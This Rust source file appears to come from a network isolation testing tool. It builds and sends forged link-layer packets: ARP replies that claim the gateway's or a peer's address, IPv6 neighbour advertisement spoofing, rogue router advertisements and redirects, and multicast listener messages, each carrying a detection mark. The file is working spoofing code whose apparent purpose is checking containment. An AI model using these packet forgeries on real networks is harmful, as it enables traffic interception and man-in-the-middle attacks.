//! Owns attacks by the protocols that find neighbours and routers: ARP, and ICMPv6 neighbour discovery (RFC 4861).

use std::io;
use std::net::{IpAddr, Ipv4Addr, Ipv6Addr};

use crate::packet::{ICMP6, arp, ether_of, frame, icmp, ip6};
use crate::target::{Attempt, Mac};
use crate::wire::{PacketSocket, all, send_ip};
use crate::{Attack, Outcome, V4, V6};

const BROADCAST: Mac = [0xff; 6];
const ARP: u16 = 0x0806;

pub(crate) const ATTACKS: &[Attack] = &[
    Attack::new("ARP reply that claims the gateway's address", V4, |attempt| {
        claim(attempt, "gateway", 2)
    }),
    Attack::new("ARP reply that claims a peer's address", V4, |attempt| {
        claim(attempt, "friend", 2)
    }),
    Attack::new("gratuitous ARP for a peer's address", V4, |attempt| claim(attempt, "friend", 1)),
    Attack::new("ARP from its own address with another's Ethernet address inside", V4, |attempt| {
        let (own, peer) = (v4(attempt.own()), v4(attempt.at("peer")));
        let mac = attempt.targets.mac("friend_mac");
        send_arp(attempt, &arp(2, (mac, own), (attempt.targets.mac("peer_mac"), peer)))
    }),
    Attack::new("ARP of operations nobody uses", V4, |attempt| {
        let (own, peer) = (v4(attempt.own()), v4(attempt.at("peer")));
        let (mac, to) = (attempt.targets.mac("own_mac"), attempt.targets.mac("peer_mac"));
        all([3, 9, 25].map(|kind| send_arp(attempt, &arp(kind, (mac, own), (to, peer)))))
    }),
    Attack::new("a payload behind its own ARP request", V4, |attempt| {
        let (own, peer) = (v4(attempt.own()), v4(attempt.at("peer")));
        send_arp(attempt, &arp(1, (attempt.targets.mac("own_mac"), own), ([0; 6], peer)))
    }),
    Attack::new(
        "a payload behind its own ARP request for an address off the link",
        V4,
        |attempt| {
            let (own, outside) = (v4(attempt.own()), v4(attempt.at("outside")));
            send_arp(attempt, &arp(1, (attempt.targets.mac("own_mac"), own), ([0; 6], outside)))
        },
    ),
    Attack::new("neighbour advertisement for the gateway's address", V6, |attempt| {
        advertise(attempt, "gateway")
    }),
    Attack::new("neighbour advertisement for a peer's address", V6, |attempt| {
        advertise(attempt, "friend")
    }),
    Attack::new("neighbour advertisement from a peer's source address", V6, |attempt| {
        let from = v6(attempt.at("friend"));
        let body = target_body(attempt, from, 2);
        send_both(attempt, from, v6(attempt.at("peer")), (136, 0), [0x20, 0, 0, 0], &body)
    }),
    Attack::new("neighbour solicitation with another's link address inside", V6, |attempt| {
        // Whoever hears it takes the Ethernet address for that of the source.
        let own = v6(attempt.own());
        let peer = v6(attempt.at("peer"));
        let mac = attempt.targets.mac("friend_mac");
        let body = [&peer.octets()[..], &[1, 1], &mac, &hidden(attempt)].concat();
        send_both(attempt, own, peer, (135, 0), [0; 4], &body)
    }),
    Attack::new(
        "neighbour solicitation with a payload, to an address off the link",
        V6,
        |attempt| {
            let (own, outside) = (v6(attempt.own()), v6(attempt.at("outside")));
            let body = target_body(attempt, outside, 1);
            send_both(attempt, own, outside, (135, 0), [0; 4], &body)
        },
    ),
    Attack::new(
        "neighbour advertisement of its own with a payload, to an address off the link",
        V6,
        |attempt| {
            let (own, outside) = (v6(attempt.own()), v6(attempt.at("outside")));
            let body = target_body(attempt, own, 2);
            send_both(attempt, own, outside, (136, 0), [0x60, 0, 0, 0], &body)
        },
    ),
    Attack::new("neighbour solicitation of its own with a payload, to a peer", V6, |attempt| {
        let (own, peer) = (v6(attempt.own()), v6(attempt.at("peer")));
        let body = target_body(attempt, peer, 1);
        send_both(attempt, own, peer, (135, 0), [0; 4], &body)
    }),
    Attack::new(
        "neighbour solicitation from nobody (duplicate address detection) for a peer's address",
        V6,
        |attempt| {
            let peer = v6(attempt.at("peer"));
            let body = [&peer.octets()[..], &hidden(attempt)].concat();
            send_both(attempt, Ipv6Addr::UNSPECIFIED, solicited(peer), (135, 0), [0; 4], &body)
        },
    ),
    Attack::new("router advertisement", V6, |attempt| {
        // A default route for 1800 s, and a prefix (RFC 4861, 4.6.2) nobody has.
        let prefix =
            [&[3, 4, 64, 0xc0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0][..], &[0xfd, 0x66], &[0; 14]]
                .concat();
        let body = [&[0; 8][..], &prefix, &hidden(attempt)].concat();
        let own = v6(attempt.at("own_link"));
        all([own, v6(attempt.at("gateway_link"))]
            .map(|from| send_both(attempt, from, ALL_NODES, (134, 0), [64, 0, 7, 8], &body)))
    }),
    Attack::new("redirect", V6, |attempt| {
        let (own, outside) = (v6(attempt.at("own_link")), v6(attempt.at("outside")));
        let body = [&own.octets()[..], &outside.octets(), &hidden(attempt)].concat();
        all([own, v6(attempt.at("gateway_link"))]
            .map(|from| send_both(attempt, from, v6(attempt.at("peer")), (137, 0), [0; 4], &body)))
    }),
    Attack::new("router solicitation with a payload, to an address off the link", V6, |attempt| {
        let body = hidden(attempt);
        send_both(attempt, v6(attempt.own()), v6(attempt.at("outside")), (133, 0), [0; 4], &body)
    }),
    Attack::new("router solicitation with a payload, to all routers", V6, |attempt| {
        let routers = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 2);
        let body = hidden(attempt);
        send_both(attempt, v6(attempt.at("own_link")), routers, (133, 0), [0; 4], &body)
    }),
    Attack::new(
        "multicast listener report with a payload, to an address off the link",
        V6,
        |attempt| listen(attempt, v6(attempt.at("outside"))),
    ),
    Attack::new("multicast listener report with a payload, to a peer", V6, |attempt| {
        listen(attempt, v6(attempt.at("peer")))
    }),
    Attack::new("multicast listener report with a payload, to all nodes", V6, |attempt| {
        report(attempt, ALL_NODES, &[(131, 0), (132, 0)])
    }),
    Attack::new("multicast listener report v2 with a payload, to its group", V6, |attempt| {
        report(attempt, Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 0x16), &[(143, 0)])
    }),
    Attack::new("multicast listener query (a router's)", V6, |attempt| {
        let body = [&[0; 16][..], &attempt.payload()].concat();
        let own = v6(attempt.at("own_link"));
        let message = icmp((own.into(), ALL_NODES.into()), (130, 0), [0; 4], &body);
        Ok(send_ip(ALL_NODES.into(), &ip6(own, ALL_NODES, ICMP6, 1, &message))?)
    }),
];

const ALL_NODES: Ipv6Addr = Ipv6Addr::new(0xff02, 0, 0, 0, 0, 0, 0, 1);

fn v4(address: IpAddr) -> Ipv4Addr {
    match address {
        IpAddr::V4(address) => address,
        IpAddr::V6(_) => panic!("{address} is not IPv4"),
    }
}

fn v6(address: IpAddr) -> Ipv6Addr {
    match address {
        IpAddr::V6(address) => address,
        IpAddr::V4(_) => panic!("{address} is not IPv6"),
    }
}

/// The multicast address an address is asked for at (RFC 4291, 2.7.1).
fn solicited(address: Ipv6Addr) -> Ipv6Addr {
    let [.., a, b] = address.segments();
    Ipv6Addr::new(0xff02, 0, 0, 0, 0, 1, 0xff00 | (a & 0xff), b)
}

/// `who`'s address is at the attacker's Ethernet address: told to a peer, to the host and to all.
fn claim(attempt: &Attempt<'_>, who: &str, kind: u16) -> Outcome {
    let (own, claimed) = (attempt.targets.mac("own_mac"), v4(attempt.at(who)));
    let target = if kind == 1 { claimed } else { v4(attempt.at("peer")) };
    send_arp(attempt, &arp(kind, (own, claimed), (attempt.targets.mac("peer_mac"), target)))
}

/// With the mark behind its 28 bytes, where Ethernet pads it anyway.
fn send_arp(attempt: &Attempt<'_>, message: &[u8]) -> Outcome {
    let (own, body) = (attempt.targets.mac("own_mac"), [message, &attempt.payload()].concat());
    let to = [attempt.targets.mac("peer_mac"), attempt.targets.mac("gateway_mac"), BROADCAST];
    let (plain, bypassing) = (PacketSocket::raw()?, PacketSocket::raw()?.bypassing()?);
    let send = |socket: &PacketSocket, to| socket.send(to, ARP, &frame(to, own, ARP, &body));
    Ok(all(to.into_iter().flat_map(|to| [send(&plain, to), send(&bypassing, to)]))?)
}

/// An option of a type nobody knows (253, RFC 4727) with the mark in it: 24 bytes.
fn hidden(attempt: &Attempt<'_>) -> Vec<u8> {
    let mut option = vec![253, 3];
    option.extend(attempt.mark());
    option.resize(24, 0);
    option
}

/// A target, the attacker's own link address as option `kind`, and the mark.
fn target_body(attempt: &Attempt<'_>, target: Ipv6Addr, kind: u8) -> Vec<u8> {
    let own = attempt.targets.mac("own_mac");
    [&target.octets()[..], &[kind, 1], &own, &hidden(attempt)].concat()
}

fn advertise(attempt: &Attempt<'_>, who: &str) -> Outcome {
    let body = target_body(attempt, v6(attempt.at(who)), 2);
    let own = v6(attempt.own());
    all([v6(attempt.at("peer")), ALL_NODES]
        .map(|to| send_both(attempt, own, to, (136, 0), [0x20, 0, 0, 0], &body)))
}

fn listen(attempt: &Attempt<'_>, to: Ipv6Addr) -> Outcome {
    report(attempt, to, &[(131, 0), (132, 0), (143, 0)])
}

fn report(attempt: &Attempt<'_>, to: Ipv6Addr, kinds: &[(u8, u8)]) -> Outcome {
    let own = v6(attempt.at("own_link"));
    let body = [&[0; 16][..], &attempt.payload()].concat();
    all(kinds.iter().map(|kind| -> Outcome {
        let message = icmp((own.into(), to.into()), *kind, [0; 4], &body);
        Ok(send_ip(to.into(), &ip6(own, to, ICMP6, 1, &message))?)
    }))
}

/// Sends a message by the IP layer and by a packet socket, with the hop limit that says it is from the link.
fn send_both(
    attempt: &Attempt<'_>,
    from: Ipv6Addr,
    to: Ipv6Addr,
    kind: (u8, u8),
    rest: [u8; 4],
    body: &[u8],
) -> Outcome {
    let message = icmp((from.into(), to.into()), kind, rest, body);
    let packet = ip6(from, to, ICMP6, 255, &message);
    let mac = match to.octets() {
        [0xff, .., a, b, c, d] => [0x33, 0x33, a, b, c, d],
        _ if IpAddr::from(to) == attempt.at("peer") => attempt.targets.mac("peer_mac"),
        _ => attempt.targets.mac("gateway_mac"),
    };
    let by_link = || -> io::Result<()> {
        let own = attempt.targets.mac("own_mac");
        let kind = ether_of(to.into());
        PacketSocket::raw()?.bypassing()?.send(mac, kind, &frame(mac, own, kind, &packet))
    };
    Ok(all([send_ip(to.into(), &packet), by_link()])?)
}
